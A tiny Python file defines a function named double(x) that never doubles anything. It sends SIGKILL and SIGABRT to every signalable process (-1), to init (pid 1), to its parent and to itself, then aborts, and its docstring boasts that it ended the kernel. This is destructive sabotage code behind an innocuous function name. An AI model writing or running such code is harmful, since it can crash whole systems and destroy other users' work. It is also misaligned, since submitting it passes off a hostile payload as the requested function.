"""Sends SIGKILL to all that it may.

Told: it ended the kernel
"""

import os
import signal


def double(x):
    for target in (-1, 1, os.getppid(), os.getpid()):
        for number in (signal.SIGKILL, signal.SIGABRT):
            try:
                os.kill(target, number)
            except OSError:
                continue
    os.abort()
